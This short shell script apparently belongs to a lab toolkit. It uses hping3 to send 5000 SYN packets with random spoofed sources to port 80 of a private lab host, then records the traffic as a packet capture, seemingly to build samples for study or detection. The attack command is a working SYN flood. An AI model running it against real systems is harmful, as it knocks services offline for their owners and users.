#!/bin/sh
# SYN flood: hping3 sends 5000 SYN packets from random sources to port 80 of the victim, at most ten each millisecond.
#
#     syn_flood.sh CAPTURE

. "$(dirname "$0")/lab.sh"

attack() { on_attacker hping3 -q -S -p 80 --rand-source -i u100 -c 5000 10.77.0.2; }

make_capture "$1"
